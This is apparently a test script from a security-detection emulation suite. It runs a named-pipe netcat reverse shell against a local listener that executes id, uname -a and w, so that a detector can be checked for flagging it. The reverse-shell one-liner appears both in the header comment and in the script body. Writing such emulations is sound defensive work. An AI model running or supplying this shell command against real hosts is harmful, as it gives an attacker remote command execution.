#!/bin/bash
# vigil-emulation: attack
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# tactic: execution, command-and-control
# what: the named-pipe reverse shell for netcats without -e:
#   `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 PORT > /tmp/f`
#   (the fifo lives in a scratch directory); the listener runs `id`, `uname -a`, `w`.
# report: a reverse shell: sh -i fed from a fifo that nc fills from a TCP connection to
#   127.0.0.1:PORT and whose output nc sends back.
# expect: reverse shell
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need nc mkfifo

emul_tmpdir
dir=$EMUL_DIR
emul_server shell --commands "id;uname -a;w"
listener=$EMUL_BG_PID
timeout 30 sh -c "rm -f $dir/f; mkfifo $dir/f; cat $dir/f | /bin/sh -i 2>&1 | nc 127.0.0.1 $EMUL_PORT > $dir/f" || true
wait "$listener"
